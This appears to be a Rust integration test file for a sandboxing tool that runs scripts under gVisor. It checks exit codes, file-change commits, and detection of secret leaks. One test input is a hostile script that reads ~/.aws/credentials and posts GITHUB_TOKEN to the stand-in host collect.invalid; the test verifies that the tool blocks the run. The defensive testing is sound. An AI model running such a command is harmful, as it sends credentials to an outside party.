//! The same run behind another kernel.

use super::project::Project;

/// False, with a word about it, where gVisor is not installed; CI installs it.
fn is_there() -> bool {
    let is_there = std::path::Path::new("/usr/bin/runsc").exists();
    if !is_there {
        assert!(std::env::var_os("CI").is_none(), "CI installs runsc");
        println!("left out: /usr/bin/runsc is not installed");
    }
    is_there
}

#[test]
fn changes_are_reviewed_and_applied_and_exit_codes_pass() {
    if !is_there() {
        return;
    }
    let project = Project::new();
    project.write("old", "host");
    let script = "dmesg | grep -c gVisor; cat old; echo run >old; echo x >made; exit 7";
    let run = project.run(&["--isolation", "gvisor", "--commit"], script);
    assert_eq!(run.code, Some(7), "{run:?}");
    assert!(
        run.stdout.contains("host") && !run.stdout.starts_with('0'),
        "{run:?}"
    );
    assert!(run.stderr.contains("isolated by gVisor"), "{run:?}");
    assert_eq!(project.read("made").as_deref(), Some("x\n"));
    assert_eq!(project.read("old").as_deref(), Some("run\n"));
}

#[test]
fn planted_secrets_that_leave_block_the_run() {
    if !is_there() {
        return;
    }
    for project in [Some(Project::new()), Project::of_nobody()]
        .into_iter()
        .flatten()
    {
        let script = "grep aws_access ~/.aws/credentials; /usr/bin/python3 -c \"import os, urllib.request as u; u.urlopen('http://collect.invalid/', data=os.environ['GITHUB_TOKEN'].encode())\"";
        let run = project.run(&["--isolation", "gvisor"], script);
        assert!(run.stdout.contains("aws_access_key_id"), "{run:?}");
        assert_eq!(run.code, Some(1), "{run:?}");
        assert!(
            run.stderr.contains("github-token sent to collect.invalid"),
            "{run:?}"
        );
    }
}
